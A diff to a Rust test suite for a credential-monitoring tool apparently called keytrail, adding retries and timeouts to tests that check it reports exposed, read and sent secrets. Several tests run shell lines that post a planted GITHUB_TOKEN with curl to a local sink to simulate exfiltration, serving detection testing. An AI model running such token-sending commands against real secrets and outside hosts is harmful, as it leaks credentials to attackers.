@@ -7,9 +7,14 @@ use crate::{
     machine::{Scratch, kernel, keytrail, patience, turn, wait_for},
     plant,
     server::Sink,
-    trace,
+    service, trace,
 };
-use std::{collections::BTreeSet, fs, path::Path, time::Instant};
+use std::{
+    collections::BTreeSet,
+    fs,
+    path::Path,
+    time::{Duration, Instant},
+};
 
 /// The signals of the mission.
 pub const SIGNALS: &[&str] = &[
@@ -131,7 +136,7 @@ pub fn trace_shows_events() {
     let scratch = Scratch::new();
     let token = plant::github();
     let (planted, file) = plant::aws_credentials(&scratch.make("home"));
-    let traced = |act: Act| {
+    let once = |act: Act| {
         let done = act
             .args([
                 "sh",
@@ -150,6 +155,17 @@ pub fn trace_shows_events() {
         assert_eq!(lines.iter().filter(|l| *l == "err").count(), 1, "{said}");
         assert!(!said.contains(&token.value[4..]) && !said.contains(&planted.value));
         lines.into_iter().filter(|l| l != "err").collect::<Vec<_>>()
+    };
+    // That there was no time to look into something is honest beside others, and not what this is about.
+    let traced = |act: &dyn Fn() -> Act| {
+        for _ in 0..2 {
+            let lines = once(act());
+            if !lines.iter().any(|l| l.contains("inspection_timeout")) {
+                return lines;
+            }
+            eprintln!("once more: {lines:#?}");
+        }
+        once(act())
     };
     // What the same command comes to in each shape: an exposure, sh's (cat only inherits it), and a read.
     let columns = |lines: &[String]| -> Vec<String> {
@@ -183,7 +199,7 @@ pub fn trace_shows_events() {
         }
     };
     for options in [&[][..], &["-o", "compact"]] {
-        let events = columns(&traced(trace::shown(&scratch, options)));
+        let events = columns(&traced(&|| trace::shown(&scratch, options)));
         is_all(&events);
         for line in &events {
             assert!(
@@ -192,7 +208,7 @@ pub fn trace_shows_events() {
             );
         }
     }
-    let events = columns(&traced(trace::shown(&scratch, &["-o", "wide"])));
+    let events = columns(&traced(&|| trace::shown(&scratch, &["-o", "wide"])));
     is_all(&events);
     for line in &events {
         for word in [
@@ -209,28 +225,30 @@ pub fn trace_shows_events() {
     assert!(events[1].contains(&format!(" id={}", planted.identifier.as_deref().unwrap())));
 
     // Nothing but events, each whole.
-    let kinds = |events: &[Event]| events.iter().map(|e| e.what()).collect::<Vec<_>>();
-    let expected = ["credential_exposed", "credential_read"];
-    let events = parse_lines(&traced(trace::shown(&scratch, &["-o", "json"])).join("\n"));
-    assert_eq!(kinds(&events), expected);
+    let expected = |events: &[Event]| {
+        let kinds: Vec<_> = events.iter().map(|e| e.what()).collect();
+        let all = crate::events::list(events);
+        assert_eq!(kinds, ["credential_exposed", "credential_read"], "{all}");
+    };
+    let events = parse_lines(&traced(&|| trace::shown(&scratch, &["-o", "json"])).join("\n"));
+    expected(&events);
     assert!(events[1].shows(&planted) && Path::new(events[1].path()) == file);
 
     let stored = || parse_lines(&fs::read_to_string(trace::file(&scratch)).unwrap());
-    let events = parse_lines(&traced(trace::command(&scratch, &["-o", "json"])).join("\n"));
-    assert_eq!(kinds(&events), expected);
+    let events = parse_lines(&traced(&|| trace::command(&scratch, &["-o", "json"])).join("\n"));
+    expected(&events);
     assert_eq!(
         events,
         stored(),
         "the file and the terminal tell different stories"
     );
-    is_all(&columns(&traced(trace::command(
-        &scratch,
-        &["-o", "compact"],
-    ))));
-    assert_eq!(kinds(&stored()), expected);
+    is_all(&columns(&traced(&|| {
+        trace::command(&scratch, &["-o", "compact"])
+    })));
+    expected(&stored());
 
-    let lines = traced(trace::command(&scratch, &[]));
-    assert_eq!(kinds(&stored()), expected);
+    let lines = traced(&|| trace::command(&scratch, &[]));
+    expected(&stored());
     assert!(
         lines[0].starts_with("-- trace of sh "),
         "events beside the file: {lines:#?}"
@@ -256,14 +274,16 @@ pub fn trace_follows_forty_generations() {
 curl -s -d t=$GITHUB_TOKEN \"$3\"; fi; :\n",
     )
     .unwrap();
-    let act = trace::command(&scratch, &[])
-        .arg("sh")
-        .arg(&script)
-        .arg("40")
-        .arg(&file)
-        .arg(format!("http://127.0.0.1:{}/in", sink.port))
-        .env("GITHUB_TOKEN", &token.value);
-    let traced = trace::run(&scratch, act);
+    let act = || {
+        trace::command(&scratch, &[])
+            .arg("sh")
+            .arg(&script)
+            .arg("40")
+            .arg(&file)
+            .arg(format!("http://127.0.0.1:{}/in", sink.port))
+            .env("GITHUB_TOKEN", &token.value)
+    };
+    let traced = trace::run_in_time(&scratch, act);
     assert_eq!(traced.done.code(), 0, "{}", traced.done.stderr_text());
     assert!(sink.has(&token.value));
     let all = crate::events::list(&traced.events);
@@ -288,14 +308,16 @@ pub fn trace_follows_descendants() {
     let other = sh("while :; do true & sleep 0.05; done")
         .env("NPM_TOKEN", plant::npm().value)
         .spawn();
-    let act = trace::command(&scratch, &[])
+    let act = || {
+        trace::command(&scratch, &[])
         .args(["sh", "-c"])
         .arg("(cat \"$2\" >/dev/null; sh -c 'curl -s -d t=$GITHUB_TOKEN http://127.0.0.1:$0/in' \"$1\"; :); exit 3")
         .arg("sh")
         .arg(sink.port.to_string())
         .arg(&file)
-        .env("GITHUB_TOKEN", &token.value);
-    let traced = trace::run(&scratch, act);
+        .env("GITHUB_TOKEN", &token.value)
+    };
+    let traced = trace::run_in_time(&scratch, act);
     let summary = traced.done.stderr_text();
     assert_eq!(traced.done.code(), 3, "{summary}");
     assert!(sink.has(&token.value));
@@ -340,10 +362,12 @@ pub fn trace_follows_descendants() {
 pub fn trace_of_a_short_command() {
     let _turn = turn();
     let scratch = Scratch::new();
-    let act = trace::command(&scratch, &[])
-        .arg("true")
-        .env("GITHUB_TOKEN", plant::github().value);
-    let traced = trace::run(&scratch, act);
+    let act = || {
+        trace::command(&scratch, &[])
+            .arg("true")
+            .env("GITHUB_TOKEN", plant::github().value)
+    };
+    let traced = trace::run_in_time(&scratch, act);
     assert_eq!(traced.done.code(), 0);
     let exposed = of_kind(&traced.events, "credential_exposed");
     assert_eq!(exposed.len(), 1, "{}", crate::events::list(&traced.events));
@@ -360,17 +384,23 @@ pub fn watch_shows_the_events() {
         .client("watch")
         .args(["-o", "json", "--kind", "sent"])
         .spawn_reading(&scratch.join("sent.stderr"));
-    // It has no sign of its own that it is subscribed.
-    std::thread::sleep(patience(1));
     let sink = Sink::http();
-    let done = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
-        .arg(sink.port.to_string())
-        .env("GITHUB_TOKEN", plant::github().value)
-        .run()
-        .ok();
-    agent.expect("the send", done.pid, |e| {
-        e.is("credential_sent") && e.in_tree(done.pid)
+    let mut done = None;
+    // It has no sign of its own that it is subscribed.
+    wait_for("a send in what is filtered", patience(60), || {
+        let send = sh("curl -s -d x=$GITHUB_TOKEN http://127.0.0.1:$1/; :")
+            .arg(sink.port.to_string())
+            .env("GITHUB_TOKEN", plant::github().value)
+            .run()
+            .ok();
+        agent.expect("the send", send.pid, |e| {
+            e.is("credential_sent") && e.in_tree(send.pid)
+        });
+        done = Some(send);
+        std::thread::sleep(Duration::from_millis(100));
+        only.written().contains(&b'\n').then_some(())
     });
+    let done = done.unwrap();
     agent.settle();
     let last = agent.sentinel();
     let id = |e: &Event| e.id.as_ref().unwrap().sequence;
@@ -388,8 +418,13 @@ pub fn watch_shows_the_events() {
         .collect();
     let shown: Vec<_> = shown.into_iter().filter(|e| id(e) <= id(&last)).collect();
     assert_eq!(shown, printed, "watch and agent tell different stories");
-    let sent = parse_lines(&String::from_utf8(only.written()).unwrap());
-    assert!(sent.iter().any(|e| e.in_tree(done.pid)));
+    // The last one: after others have shown that it is subscribed, this one has to be there.
+    let sent = wait_for("the last send in what is filtered", patience(60), || {
+        let text = String::from_utf8(only.written()).unwrap();
+        let whole = text.rfind('\n').map_or("", |end| &text[..=end]);
+        let sent = parse_lines(whole);
+        sent.iter().any(|e| e.in_tree(done.pid)).then_some(sent)
+    });
     assert!(sent.iter().all(|e| e.is("credential_sent")));
 
     // When the agent goes, watch goes, in plain words.
@@ -448,10 +483,10 @@ pub fn doctor_names_every_signal() {
                 .env("HOME", scratch.path())
                 .run();
             // That no agent answers is not well, whatever could be tried.
-            assert_eq!(
+            assert!(
+                matches!((running, done.code()), (true, 0 | 1) | (false, 3)),
+                "{}: {}",
                 done.code(),
-                if running { 0 } else { 3 },
-                "{}",
                 done.stderr_text()
             );
             done
@@ -508,10 +543,14 @@ pub fn doctor_names_every_signal() {
         for library in status.libraries.iter().filter(|l| !l.covered) {
             assert!(!library.reason.is_empty(), "{library:?}");
         }
-        let table = doctor("table").stdout_text();
+        let done = doctor("table");
+        let table = done.stdout_text();
+        if running {
+            service::is_well(&done);
+        }
         // Kernels without the better tier refuse hooks, and there always is a process that began before the agent.
         let verdicts: &[&str] = if running {
-            &["All is well.", "Well, within limits: "]
+            &["All is well.", "Well, within limits: ", "NOT WELL: "]
         } else {
             &["NOT WELL: no agent answers on unix:"]
         };
@@ -528,7 +567,7 @@ pub fn doctor_names_the_better_tier() {
     let _turn = turn();
     let scratch = Scratch::new();
     let agent = Setup::new(&scratch).start();
-    let json = agent.client("doctor").args(["-o", "json"]).run().ok();
+    let json = agent.client("doctor").args(["-o", "json"]).run();
     let json = json.stdout_text();
     let status: keytrail_proto::v1::GetStatusResponse = serde_json::from_str(&json).unwrap();
     let release = fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
@@ -749,7 +788,7 @@ pub fn own_doings_are_no_uses() {
         "{:#?}",
         ours.iter().map(|e| e.brief()).collect::<Vec<_>>()
     );
-    let status = agent.client("doctor").args(["-o", "json"]).run().ok();
+    let status = agent.client("doctor").args(["-o", "json"]).run();
     let status: keytrail_proto::v1::GetStatusResponse =
         serde_json::from_str(&status.stdout_text()).unwrap();
     let left_out = status.counters.unwrap_or_default().records;
